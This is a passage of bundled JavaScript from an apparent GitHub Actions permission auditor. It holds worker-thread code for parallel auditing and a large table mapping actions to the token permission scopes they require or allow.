    if (threads === 1)
        return auditCandidates(candidates, cwd, config);
    const shares = Array.from({ length: threads }, () => []);
    const sized = candidates.map((c) => ({ c, size: sizeOf(c.absolute) })).sort((a, b) => b.size - a.size);
    sized.forEach(({ c }, i) => shares[i % threads].push(c));
    const [mine = [], ...theirs] = shares;
    const remote = theirs.map((share) => runWorker(options.script, { tag: TAG, candidates: share, cwd, config }));
    const parts = [await auditCandidates(mine, cwd, config), ...(await Promise.all(remote))];
    return {
        findings: parts.flatMap((p) => p.findings),
        files: parts.reduce((n, p) => n + p.files, 0),
        skipped: parts.flatMap((p) => p.skipped),
        targets: [],
    };
}
function runWorker(script, input) {
    return new Promise((resolve, reject) => {
        const worker = new node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.Worker(script, { workerData: input });
        let done = false;
        worker.once("message", (result) => {
            done = true;
            resolve({ ...result, targets: [] });
            void worker.terminate();
        });
        worker.once("error", reject);
        worker.once("exit", (code) => {
            if (!done)
                reject(new Error(`audit worker exited with code ${code} before answering`));
        });
    });
}
/** True when this thread was started by `auditInWorkers`. */
function isAuditWorker() {
    return !node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.isMainThread && typeof node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.workerData === "object" && node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.workerData !== null && node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.workerData.tag === TAG;
}
/** The worker side: audits its share and posts the result (without models) to the parent. */
async function serveAuditWorker() {
    const { auditCandidates } = await Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 11669));
    const input = node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.workerData;
    const result = await auditCandidates(input.candidates, input.cwd, input.config);
    node_worker_threads__WEBPACK_IMPORTED_MODULE_1__.parentPort?.postMessage({ findings: result.findings, files: result.files, skipped: result.skipped, targets: [] });
}
function sizeOf(file) {
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_2__.statSync)(file).size;
    }
    catch {
        return 0;
    }
}
//# sourceMappingURL=parallel.js.map

/***/ }),

/***/ 95896:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   L: () => (/* binding */ REUSABLE_WORKFLOWS),
/* harmony export */   k: () => (/* binding */ ACTIONS)
/* harmony export */ });
const isTrue = (value) => value !== undefined && /^\s*true\s*$/i.test(value);
const isFalse = (value) => value !== undefined && /^\s*false\s*$/i.test(value);
/** True, or an expression that may evaluate to true. */
const mayBeTrue = (value) => value !== undefined && !isFalse(value) && (isTrue(value) || value.includes("${{"));
const given = (value) => value !== undefined && value.trim() !== "";
const staleDays = (a, kind) => (a.input(`days-before-${kind}-stale`) ?? a.input("days-before-stale") ?? "60").trim();
const PR_EVENTS = new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
const onPullRequests = (a) => [...a.events].some((e) => PR_EVENTS.has(e));
/** Token inputs that default to `${{ github.token }}`. */
const token = (...inputs) => ({ inputs, defaultJob: true });
const TOKEN = token("token");
const GITHUB_TOKEN = token("github-token");
const REPO_TOKEN = token("repo-token");
const NOTHING = {};
const RELEASE = { token: TOKEN, needs: { contents: "write" } };
const codeqlUpload = {
    token: token("token"),
    needs: { "security-events": "write", actions: "read", contents: "read" },
    note: "`actions: read` and `contents: read` are only used in private repositories; Peptide assumes private.",
};
const attest = {
    token: GITHUB_TOKEN,
    needs: { attestations: "write" },
    when: [{ text: "always (Sigstore signing)", test: () => true, needs: { "id-token": "write" }, viaToken: false }],
    allows: { packages: "write", contents: "read" },
    pushes: (a) => isTrue(a.input("push-to-registry")) && (a.input("subject-name") ?? ""),
};
const PEPTIDE_SIGNING = { text: "always (keyless Sigstore signing with the job's OIDC token)", test: () => true, needs: { "id-token": "write" }, viaToken: false };
/** The input names an image on ghcr.io and the job token is its credential (`github-token`, default `github.token`). */
const onGhcr = (a, input) => /(^|\/\/)ghcr\.io\//i.test(a.input(input) ?? "") && (a.input("github-token") === undefined || a.token("github-token") === "job");
const peptideAttest = {
    token: GITHUB_TOKEN,
    when: [PEPTIDE_SIGNING, { text: "`github-attestations` is true", test: (a) => mayBeTrue(a.input("github-attestations")), needs: { attestations: "write" } }],
    allows: { contents: "read" },
    ghcrLogin: (a) => onGhcr(a, "subject-name"),
    pushes: (a) => isTrue(a.input("push-to-registry")) && (a.input("subject-name") ?? ""),
};
const comment = (scopes) => ({
    token: TOKEN,
    needs: scopes === "pr" ? { "pull-requests": "write" } : {},
    when: scopes === "pr"
        ? []
        : [
            { text: "on pull-request events", test: onPullRequests, needs: { "pull-requests": "write" } },
            { text: "on other events", test: (a) => !onPullRequests(a), needs: { issues: "write" } },
        ],
    allows: { issues: "write", "pull-requests": "write" },
});
const setup = NOTHING; // installs a tool; any token input only lifts the anonymous rate limit
/**
 * The knowledge base, keyed by lower-case `owner/repo[/path]`. Covers every action used more than
 * once in the 399-workflow corpus and the most used actions on the Marketplace.
 */
const ACTIONS = {
    // ---- actions/* (GitHub)
    "actions/checkout": { token: TOKEN, needs: { contents: "read" }, note: "Leaves the token in the git config unless `persist-credentials: false`; a later `git push` then needs `contents: write`." },
    "actions/setup-go": setup,
    "actions/setup-node": setup,
    "actions/setup-python": setup,
    "actions/setup-java": setup,
    "actions/setup-dotnet": setup,
    "actions/cache": NOTHING,
    "actions/cache/restore": NOTHING,
    "actions/cache/save": NOTHING,
    "actions/upload-artifact": NOTHING,
    "actions/upload-artifact/merge": NOTHING,
    "actions/download-artifact": {
        token: { inputs: ["github-token"], defaultJob: false },
        when: [{ text: "`run-id` is set (another run's artifacts)", test: (a) => given(a.input("run-id")), needs: { actions: "read" } }],
    },
    "actions/github-script": { token: GITHUB_TOKEN, code: { input: "script", kind: "github-script" }, note: "Classified from the `github.rest.*` calls in `script`; `github.graphql` or a `require`d file cannot be classified." },
    "actions/create-github-app-token": NOTHING,
    "actions/upload-pages-artifact": NOTHING,
    "actions/configure-pages": { token: TOKEN, needs: { pages: "read" }, allows: { pages: "write" } },
    "actions/deploy-pages": { token: TOKEN, needs: { pages: "write" }, when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "actions/attest-build-provenance": attest,
    "actions/attest": attest,
    "actions/attest-sbom": attest,
    "actions/stale": {
        token: REPO_TOKEN,
        when: [
            { text: "issues go stale (`days-before-issue-stale`, else `days-before-stale`, is not -1)", test: (a) => staleDays(a, "issue") !== "-1", needs: { issues: "write" } },
            { text: "pull requests go stale (`days-before-pr-stale`, else `days-before-stale`, is not -1)", test: (a) => staleDays(a, "pr") !== "-1", needs: { "pull-requests": "write" } },
            { text: "`delete-branch: true`", test: (a) => isTrue(a.input("delete-branch")), needs: { contents: "write" } },
        ],
        allows: { actions: "write", issues: "write", "pull-requests": "write" },
        note: "v9 keeps its state in the Actions cache: `actions: write` lets it delete the old entry.",
    },
    "actions/labeler": { token: REPO_TOKEN, needs: { contents: "read", "pull-requests": "write" }, allows: { issues: "write" } },
    "actions/first-interaction": { token: REPO_TOKEN, needs: { issues: "write", "pull-requests": "write" } },
    "actions/dependency-review-action": {
        token: REPO_TOKEN,
        needs: { contents: "read" },
        when: [{ text: "`comment-summary-in-pr` is set", test: (a) => given(a.input("comment-summary-in-pr")) && !/^never$/i.test(a.input("comment-summary-in-pr") ?? ""), needs: { "pull-requests": "write" } }],
    },
    "actions/publish-immutable-action": { token: GITHUB_TOKEN, needs: { contents: "read", packages: "write" }, when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "actions/delete-package-versions": { token: TOKEN, needs: { packages: "write" } },
    "actions/add-to-project": { token: { inputs: ["github-token"], defaultJob: false }, needs: { "repository-projects": "write" } },
    "actions/create-release": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write" } },
    "actions/upload-release-asset": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write" } },
    "actions/ai-inference": { token: TOKEN, needs: { models: "read" } },
    "actions/setup-haskell": setup,
    "actions/setup-ruby": setup,
    "actions/setup-elixir": setup,
    "actions/dependency-submission": { token: TOKEN, needs: { contents: "write" } },
    // ---- github/* (GitHub)
    "github/codeql-action/init": { token: TOKEN, needs: { contents: "read" }, allows: { actions: "read", packages: "read", "security-events": "write" } },
    "github/codeql-action/autobuild": NOTHING,
    "github/codeql-action/analyze": {
        token: TOKEN,
        needs: { contents: "read", actions: "read" },
        when: [{ text: "`upload` is not `false`/`never`", test: (a) => !/^(false|never)$/i.test((a.input("upload") ?? "").trim()), needs: { "security-events": "write" } }],
        allows: { packages: "read" },
    },
    "github/codeql-action/upload-sarif": codeqlUpload,
    "github/codeql-action/resolve-environment": NOTHING,
    "github/codeql-action/start-proxy": NOTHING,
    "github/codeql-action/setup-codeql": NOTHING,
    "github/issue-labeler": { token: REPO_TOKEN, needs: { issues: "write" }, allows: { contents: "read", "pull-requests": "write" } },
    "github/setup-licensed": setup,
    "github/licensed-ci": { token: { inputs: ["github_token"], defaultJob: true }, needs: { contents: "write", "pull-requests": "write" } },
    "github/super-linter": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "read", statuses: "write" }, allows: { packages: "read" } },
    "github/super-linter/slim": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "read", statuses: "write" }, allows: { packages: "read" } },
    // ---- docker/*
    "docker/setup-buildx-action": NOTHING,
    "docker/setup-qemu-action": NOTHING,
    "docker/setup-docker-action": NOTHING,
    "docker/setup-compose-action": NOTHING,
    "docker/metadata-action": NOTHING,
    "docker/login-action": {
        ghcrLogin: (a) => /(^|\/\/)ghcr\.io/i.test(a.input("registry") ?? "") && a.token("password") === "job",
        when: [
            {
                text: "`registry` is computed and `password` a secret (it may be ghcr.io with a caller's job token)",
                test: (a) => /\$\{\{/.test(a.input("registry") ?? "") && a.token("password") !== "none",
                needs: { packages: "write" },
                viaToken: false,
                mayNeed: true,
            },
        ],
        note: "Logging in to ghcr.io with the job token needs `packages: write` when the job pushes, `packages: read` when it only pulls.",
    },
    "docker/build-push-action": {
        token: GITHUB_TOKEN,
        when: [{ text: "`context` is not set (the Git context, fetched with the token)", test: (a) => !given(a.input("context")) || /defaultContext|github\.com/i.test(a.input("context") ?? ""), needs: { contents: "read" } }],
        pushes: (a) => (mayBeTrue(a.input("push")) || /push=true/.test(a.input("outputs") ?? "")) && (a.input("tags") ?? ""),
    },
    "docker/bake-action": {
        token: GITHUB_TOKEN,
        when: [{ text: "`source` is the Git context", test: (a) => !given(a.input("source")) || /defaultContext|github\.com/i.test(a.input("source") ?? ""), needs: { contents: "read" } }],
        pushes: (a) => (mayBeTrue(a.input("push")) || /push=true/.test(a.input("set") ?? "")) && "",
    },
    "docker/bake-action/subaction/matrix": NOTHING,
    "docker/bake-action/subaction/list-targets": NOTHING,
    "docker/scout-action": {
        token: GITHUB_TOKEN,
        when: [{ text: "on pull-request events, unless `write-comment: false`", test: (a) => onPullRequests(a) && !isFalse(a.input("write-comment")), needs: { "pull-requests": "write" } }],
        allows: { "pull-requests": "write" },
    },
    // ---- release, pull requests, comments
    "softprops/action-gh-release": {
        token: TOKEN,
        needs: { contents: "write" },
        when: [{ text: "`discussion_category_name` is set", test: (a) => given(a.input("discussion_category_name")), needs: { discussions: "write" } }],
    },
    "ncipollo/release-action": RELEASE,
    "svenstaro/upload-release-action": tokenInput("repo_token", { contents: "write" }),
    "marvinpinto/action-automatic-releases": tokenInput("repo_token", { contents: "write" }, false),
    "release-drafter/release-drafter": { token: { env: ["GITHUB_TOKEN"], inputs: ["token"], defaultJob: false }, needs: { contents: "write", "pull-requests": "read" }, allows: { "pull-requests": "write" } },
    "googleapis/release-please-action": { token: TOKEN, needs: { contents: "write", "pull-requests": "write" }, allows: { issues: "write" } },
    "google-github-actions/release-please-action": { token: TOKEN, needs: { contents: "write", "pull-requests": "write" }, allows: { issues: "write" } },
    "changesets/action": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write", "pull-requests": "write" }, allows: { "id-token": "write", issues: "write" } },
    "peter-evans/create-pull-request": { token: TOKEN, needs: { contents: "write", "pull-requests": "write" } },
    "korthout/backport-action": {
        token: { inputs: ["github_token"], defaultJob: true },
        needs: { "pull-requests": "write" },
        when: [{ text: "actions/checkout left the job token in git (it pushes the backport branch with it)", test: (a) => a.gitCredentials, needs: { contents: "write" }, viaToken: false }],
        allows: { issues: "write" },
    },
    "peter-evans/create-or-update-comment": comment("issue-or-pr"),
    "peter-evans/find-comment": {
        token: TOKEN,
        when: [
            { text: "on pull-request events", test: onPullRequests, needs: { "pull-requests": "read" } },
            { text: "on other events", test: (a) => !onPullRequests(a), needs: { issues: "read" } },
        ],
        allows: { issues: "read", "pull-requests": "read" },
    },
    "peter-evans/repository-dispatch": { token: TOKEN, needs: { contents: "write" } },
    "peter-evans/enable-pull-request-automerge": { token: TOKEN, needs: { contents: "write", "pull-requests": "write" } },
    "peter-evans/create-issue-from-file": { token: TOKEN, needs: { issues: "write" } },
    "peter-evans/dockerhub-description": NOTHING,
    "marocchino/sticky-pull-request-comment": { token: { inputs: ["github_token", "GITHUB_TOKEN"], defaultJob: true }, needs: { "pull-requests": "write" } },
    "thollander/actions-comment-pull-request": { token: { inputs: ["github-token", "GITHUB_TOKEN"], defaultJob: true }, needs: { "pull-requests": "write" } },
    "mshick/add-pr-comment": { token: { inputs: ["repo-token"], defaultJob: true }, needs: { "pull-requests": "write" }, allows: { issues: "write" } },
    "actions-ecosystem/action-add-labels": tokenInput("github_token", { "pull-requests": "write" }, true, { issues: "write" }),
    "actions-ecosystem/action-remove-labels": tokenInput("github_token", { "pull-requests": "write" }, true, { issues: "write" }),
    "thehanimo/pr-title-checker": tokenInput("GITHUB_TOKEN", { "pull-requests": "write" }, true, { issues: "write" }),
    "amannn/action-semantic-pull-request": { token: { env: ["GITHUB_TOKEN"] }, needs: { "pull-requests": "read" } },
    "lerebear/sizeup-action": { token: TOKEN, needs: { "pull-requests": "write" }, allows: { issues: "write", contents: "read" } },
    "actionsdesk/lfs-warning": { token: TOKEN, needs: { "pull-requests": "write" }, allows: { issues: "write", contents: "read" } },
    "ianlewis/todo-issue-reopener": { token: TOKEN, needs: { issues: "write" }, allows: { contents: "read" } },
    "jasonetco/create-an-issue": { token: { env: ["GITHUB_TOKEN"] }, needs: { issues: "write" } },
    "dependabot/fetch-metadata": { token: GITHUB_TOKEN, needs: { "pull-requests": "read" } },
    "fastify/github-action-merge-dependabot": { token: GITHUB_TOKEN, needs: { contents: "write", "pull-requests": "write" } },
    "hmarr/auto-approve-action": { token: GITHUB_TOKEN, needs: { "pull-requests": "write" } },
    "pascalgn/automerge-action": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write", "pull-requests": "write" } },
    "kentaro-m/auto-assign-action": { token: REPO_TOKEN, needs: { "pull-requests": "write" } },
    "pozil/auto-assign-issue": { token: { inputs: ["repo-token"], defaultJob: true }, needs: { issues: "write" } },
    "mheap/github-action-required-labels": { token: TOKEN, needs: { "pull-requests": "read" }, when: [{ text: "`add_comment: true`", test: (a) => isTrue(a.input("add_comment")), needs: { "pull-requests": "write" } }] },
    "wagoid/commitlint-github-action": { token: TOKEN, needs: { contents: "read", "pull-requests": "read" } },
    "feelepxyz/dependabot-changesets": { token: GITHUB_TOKEN, needs: { contents: "write", "pull-requests": "read" }, note: "Checks out and pushes with its `github-token`." },
    "endbug/add-and-commit": { token: { inputs: ["github_token"], defaultJob: true, git: true }, needs: { contents: "write" } },
    "ad-m/github-push-action": { token: { inputs: ["github_token"], defaultJob: true }, needs: { contents: "write" } },
    "stefanzweifel/git-auto-commit-action": { token: { git: true }, needs: { contents: "write" }, note: "Pushes with the credentials actions/checkout left behind." },
    "mislav/bump-homebrew-formula-action": { token: { env: ["COMMITTER_TOKEN"] }, needs: { contents: "write" } },
    "crazy-max/ghaction-github-labeler": { token: GITHUB_TOKEN, needs: { issues: "write" } },
    "crazy-max/ghaction-github-pages": { token: { env: ["GITHUB_TOKEN", "GH_PAT"] }, needs: { contents: "write" } },
    "jamesives/github-pages-deploy-action": { token: TOKEN, needs: { contents: "write" } },
    "peaceiris/actions-gh-pages": { token: { inputs: ["github_token"], defaultJob: false }, needs: { contents: "write" } },
    "helm/chart-releaser-action": { token: { env: ["CR_TOKEN"] }, needs: { contents: "write" } },
    "mathieudutour/github-tag-action": tokenInput("github_token", { contents: "write" }, false),
    "anothrnick/github-tag-action": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write" } },
    "rymndhng/release-on-push-action": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "write" } },
    // ---- checks, test reports, linters
    "golangci/golangci-lint-action": {
        token: GITHUB_TOKEN,
        needs: { contents: "read" },
        when: [{ text: "`only-new-issues: true`", test: (a) => mayBeTrue(a.input("only-new-issues")), needs: { "pull-requests": "read" } }],
        allows: { checks: "write", "pull-requests": "read" },
    },
    "dorny/test-reporter": { token: TOKEN, needs: { checks: "write", contents: "read" }, when: [{ text: "`artifact` is set", test: (a) => given(a.input("artifact")), needs: { actions: "read" } }] },
    "mikepenz/action-junit-report": { token: TOKEN, needs: { checks: "write" }, allows: { "pull-requests": "write" } },
    "enricomi/publish-unit-test-result-action": publishUnitTest(),
    "enricomi/publish-unit-test-result-action/composite": publishUnitTest(),
    "enricomi/publish-unit-test-result-action/linux": publishUnitTest(),
    "enricomi/publish-unit-test-result-action/macos": publishUnitTest(),
    "enricomi/publish-unit-test-result-action/windows": publishUnitTest(),
    "derlev/eslint-annotations": { token: GITHUB_TOKEN, needs: { checks: "write" }, allows: { contents: "read" } },
    "super-linter/super-linter": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "read", statuses: "write" }, allows: { packages: "read" } },
    "super-linter/super-linter/slim": { token: { env: ["GITHUB_TOKEN"] }, needs: { contents: "read", statuses: "write" }, allows: { packages: "read" } },
    "dorny/paths-filter": { token: TOKEN, when: [{ text: "on pull-request events", test: onPullRequests, needs: { "pull-requests": "read" } }], allows: { contents: "read" } },
    "tj-actions/changed-files": { token: TOKEN, when: [{ text: "on pull-request events", test: onPullRequests, needs: { "pull-requests": "read" } }], allows: { contents: "read" } },
    "reviewdog/action-setup": setup,
    "sonarsource/sonarcloud-github-action": { token: { env: ["GITHUB_TOKEN"] }, allows: { "pull-requests": "read", contents: "read" } },
    "sonarsource/sonarqube-scan-action": { token: { env: ["GITHUB_TOKEN"] }, allows: { "pull-requests": "read", contents: "read" } },
    "codecov/codecov-action": { when: [{ text: "`use_oidc: true`", test: (a) => mayBeTrue(a.input("use_oidc")), needs: { "id-token": "write" }, viaToken: false }] },
    "codecov/test-results-action": { when: [{ text: "`use_oidc: true`", test: (a) => mayBeTrue(a.input("use_oidc")), needs: { "id-token": "write" }, viaToken: false }] },
    "coverallsapp/github-action": NOTHING,
    "codacy/codacy-coverage-reporter-action": NOTHING,
    "codspeedhq/action": { when: [{ text: "no `token` (OIDC authentication)", test: (a) => !given(a.input("token")), needs: { "id-token": "write" }, viaToken: false }] },
    "hadolint/hadolint-action": NOTHING,
    "ludeeus/action-shellcheck": NOTHING,
    "crate-ci/typos": NOTHING,
    "codespell-project/actions-codespell": NOTHING,
    "streetsidesoftware/cspell-action": NOTHING,
    "davidanson/markdownlint-cli2-action": NOTHING,
    "pre-commit/action": NOTHING,
    "lycheeverse/lychee-action": NOTHING,
    "re-actors/alls-green": NOTHING,
    "nrwl/nx-set-shas": { token: { inputs: ["gh-token"], defaultJob: true }, needs: { actions: "read", contents: "read" } },
    // ---- security scanners and supply chain
    "ossf/scorecard-action": {
        token: { inputs: ["repo_token"], defaultJob: true },
        needs: { contents: "read", actions: "read" },
        when: [{ text: "`publish_results: true` (OIDC)", test: (a) => mayBeTrue(a.input("publish_results")), needs: { "id-token": "write" }, viaToken: false }],
        allows: { issues: "read", "pull-requests": "read", checks: "read", "security-events": "read" },
        note: "`issues`, `pull-requests` and `checks: read` are needed for some checks in private repositories.",
    },
    "zizmorcore/zizmor-action": {
        token: TOKEN,
        when: [
            {
                text: "`advanced-security` is not `false` (uploads SARIF with the job token, whatever `token` is)",
                test: (a) => !isFalse(a.input("advanced-security")),
                needs: { "security-events": "write", actions: "read", contents: "read" },
                viaToken: false,
            },
        ],
        allows: { contents: "read" },
    },
    "boostsecurityio/poutine-action": NOTHING,
    "revanite-io/osps-baseline-action": {
        when: [{ text: "`upload-sarif: true` (uploads with the job token whatever `token` is)", test: (a) => mayBeTrue(a.input("upload-sarif")), needs: { "security-events": "write" }, viaToken: false }],
        allows: { actions: "read", contents: "read" },
    },
    "step-security/harden-runner": NOTHING,
    "step-security/wait-for-secrets": { when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "aquasecurity/trivy-action": { token: { inputs: ["github-pat"], defaultJob: false }, when: [{ text: "`format: github` (dependency snapshot)", test: (a) => /^github$/i.test(a.input("format") ?? ""), needs: { contents: "write" } }] },
    "aquasecurity/setup-trivy": setup,
    "anchore/scan-action": NOTHING,
    "anchore/scan-action/download-grype": setup,
    "anchore/sbom-action": {
        token: GITHUB_TOKEN,
        when: [
            { text: "`dependency-snapshot: true`", test: (a) => mayBeTrue(a.input("dependency-snapshot")), needs: { contents: "write" } },
            { text: "on `release` events unless `upload-release-assets: false`", test: (a) => a.events.has("release") && !isFalse(a.input("upload-release-assets")), needs: { contents: "write" } },
        ],
        allows: { contents: "write", actions: "read" },
    },
    "anchore/sbom-action/download-syft": setup,
    "sigstore/cosign-installer": setup,
    "sigstore/gh-action-sigstore-python": {
        token: { inputs: [], defaultJob: true },
        when: [
            { text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false },
            { text: "`release-signing-artifacts: true` on release events", test: (a) => a.events.has("release") && !isFalse(a.input("release-signing-artifacts")), needs: { contents: "write" } },
        ],
    },
    "sigstore/sigstore-conformance": NOTHING,
    "sigstore/scaffolding/actions/setup": NOTHING,
    "slsa-framework/slsa-verifier/actions/installer": setup,
    "slsa-framework/slsa-github-generator/actions/delegator/setup-generic": { when: [{ text: "always (reads the caller from the OIDC token)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "slsa-framework/slsa-github-generator/.github/actions/detect-workflow-js": {
        token: TOKEN,
        needs: { actions: "read" },
        when: [{ text: "always (reads the caller from the OIDC token)", test: () => true, needs: { "id-token": "write" }, viaToken: false }],
    },
    "slsa-framework/slsa-github-generator/.github/actions/secure-builder-checkout": { token: TOKEN, needs: { contents: "read" } },
    "slsa-framework/slsa-github-generator/.github/actions/secure-project-checkout": { token: TOKEN, needs: { contents: "read" } },
    "slsa-framework/slsa-github-generator/.github/actions/secure-download-artifact": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/secure-upload-artifact": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/secure-upload-folder": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/secure-download-folder": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/rng": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/verify-token": { token: TOKEN, needs: { actions: "read" } },
    "slsa-framework/slsa-github-generator/.github/actions/privacy-check": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/generate-attestations": NOTHING,
    "slsa-framework/slsa-github-generator/.github/actions/generate-builder": { token: TOKEN, needs: { contents: "read" } },
    "slsa-framework/slsa-github-generator/.github/actions/sign-attestations": { when: [{ text: "always (Sigstore signing)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "pypa/gh-action-pypi-publish": { when: [{ text: "no `password` (trusted publishing)", test: (a) => !given(a.input("password")), needs: { "id-token": "write" }, viaToken: false }] },
    "rust-lang/crates-io-auth-action": { when: [{ text: "always (trusted publishing)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "fossas/fossa-action": NOTHING,
    "step-security/secure-repo/automate-pr": { token: GITHUB_TOKEN, needs: { contents: "write", "pull-requests": "write", issues: "write" } },
    // ---- registries and cloud credentials
    "ko-build/setup-ko": { ghcrLogin: () => "implicit", note: "Logs in to ghcr.io with the job token (unless `KO_DOCKER_REPO` is set) so that `ko build` can push there." },
    "imjasonh/setup-crane": { ghcrLogin: () => "implicit", note: "Logs in to ghcr.io with the job token." },
    "oras-project/setup-oras": setup,
    "int128/docker-manifest-create-action": { pushes: (a) => a.input("tags") ?? a.input("index-annotations") ?? "" },
    "aws-actions/configure-aws-credentials": {
        when: [
            {
                text: "`role-to-assume` without access keys or a web identity token file (OIDC)",
                test: (a) => given(a.input("role-to-assume")) && !given(a.input("aws-access-key-id")) && !given(a.input("web-identity-token-file")),
                needs: { "id-token": "write" },
                viaToken: false,
            },
        ],
    },
    "aws-actions/amazon-ecr-login": NOTHING,
    "aws-actions/amazon-ecs-deploy-task-definition": NOTHING,
    "aws-actions/amazon-ecs-render-task-definition": NOTHING,
    "aws-actions/aws-cloudformation-github-deploy": NOTHING,
    "google-github-actions/auth": {
        when: [{ text: "`workload_identity_provider` is set (OIDC)", test: (a) => given(a.input("workload_identity_provider")), needs: { "id-token": "write" }, viaToken: false }],
    },
    "google-github-actions/setup-gcloud": setup,
    "google-github-actions/get-gke-credentials": NOTHING,
    "google-github-actions/deploy-cloudrun": NOTHING,
    "google-github-actions/upload-cloud-storage": NOTHING,
    "azure/login": {
        when: [
            {
                text: "`client-id` without `creds` or a client secret (OIDC)",
                test: (a) => given(a.input("client-id")) && !given(a.input("creds")) && !/secret/i.test(a.input("client-id") ?? "") && !/^identity$/i.test(a.input("auth-type") ?? ""),
                needs: { "id-token": "write" },
                viaToken: false,
            },
        ],
    },
    "azure/setup-kubectl": setup,
    "azure/setup-helm": setup,
    "azure/k8s-set-context": NOTHING,
    "azure/k8s-deploy": NOTHING,
    "azure/webapps-deploy": NOTHING,
    "azure/cli": NOTHING,
    "azure/docker-login": NOTHING,
    "hashicorp/vault-action": {
        when: [{ text: "`method: jwt` without `jwtPrivateKey` or `jwtToken` (OIDC)", test: (a) => /^jwt$/i.test(a.input("method") ?? "") && !given(a.input("jwtPrivateKey")) && !given(a.input("jwtToken")), needs: { "id-token": "write" }, viaToken: false }],
    },
    "hashicorp/setup-terraform": setup,
    "hashicorp/setup-packer": setup,
    "chainguard-dev/setup-chainctl": { when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "chainguard-dev/actions/kind-diag": NOTHING,
    "chainguard-dev/actions/setup-kind": NOTHING,
    "chainguard-dev/actions/setup-mirror": NOTHING,
    "chainguard-dev/actions/setup-registry": NOTHING,
    "helm/kind-action": NOTHING,
    "helm/chart-testing-action": NOTHING,
    "azure/setup-azd": setup,
    // ---- toolchains and caches
    "pnpm/action-setup": setup,
    "astral-sh/setup-uv": setup,
    "astral-sh/ruff-action": NOTHING,
    "denoland/setup-deno": setup,
    "oven-sh/setup-bun": setup,
    "ruby/setup-ruby": setup,
    "shivammathur/setup-php": setup,
    "dtolnay/rust-toolchain": setup,
    "actions-rs/toolchain": setup,
    "actions-rs/cargo": NOTHING,
    "actions-rust-lang/setup-rust-toolchain": setup,
    "swatinem/rust-cache": NOTHING,
    "taiki-e/install-action": setup,
    "mozilla-actions/sccache-action": setup,
    "arduino/setup-protoc": setup,
    "arduino/setup-task": setup,
    "bufbuild/buf-setup-action": setup,
    "sbt/setup-sbt": setup,
    "coursier/setup-action": setup,
    "coursier/cache-action": NOTHING,
    "gradle/actions/setup-gradle": {
        token: { inputs: ["github-token"], defaultJob: true },
        when: [{ text: "`dependency-graph` is `generate-and-submit`", test: (a) => /submit/i.test(a.input("dependency-graph") ?? ""), needs: { contents: "write" } }],
    },
    "gradle/actions/dependency-submission": { token: GITHUB_TOKEN, needs: { contents: "write" } },
    "gradle/actions/wrapper-validation": NOTHING,
    "gradle/wrapper-validation-action": NOTHING,
    "gradle/gradle-build-action": NOTHING,
    "graalvm/setup-graalvm": setup,
    "bazelbuild/setup-bazelisk": setup,
    "bazel-contrib/setup-bazel": setup,
    "extractions/setup-just": setup,
    "goto-bus-stop/setup-zig": setup,
    "mlugg/setup-zig": setup,
    "subosito/flutter-action": setup,
    "erlef/setup-beam": setup,
    "julia-actions/setup-julia": setup,
    "haskell-actions/setup": setup,
    "android-actions/setup-android": setup,
    "microsoft/setup-msbuild": setup,
    "nuget/setup-nuget": setup,
    "licensee/setup-licensed": setup,
    "cachix/install-nix-action": setup,
    "cachix/cachix-action": NOTHING,
    "determinatesystems/nix-installer-action": { allows: { "id-token": "write" } },
    "determinatesystems/magic-nix-cache-action": { allows: { "id-token": "write" } },
    "determinatesystems/flakehub-cache-action": { when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "determinatesystems/flakehub-push": { when: [{ text: "always (OIDC)", test: () => true, needs: { "id-token": "write" }, viaToken: false }] },
    "pyo3/maturin-action": NOTHING,
    "goreleaser/goreleaser-action": {
        token: { env: ["GITHUB_TOKEN"] },
        when: [
            {
                text: "`args` runs `release` without `--snapshot` or skipping publish",
                test: (a) => !isTrue(a.input("install-only")) && /\brelease\b/.test(a.input("args") ?? "release") && !/--snapshot|--skip[= ]?[\w,]*publish|--skip-publish/.test(a.input("args") ?? ""),
                needs: { contents: "write" },
            },
        ],
        allows: { packages: "write", "id-token": "write", issues: "write" },
        pushes: (a) => !isTrue(a.input("install-only")) && /\brelease\b/.test(a.input("args") ?? "release") && !/--snapshot/.test(a.input("args") ?? "") && "",
        note: "What a release publishes (images, signatures) is in `.goreleaser.yml`: `packages` and `id-token: write` are allowed, not required.",
    },
    "jlumbroso/free-disk-space": NOTHING,
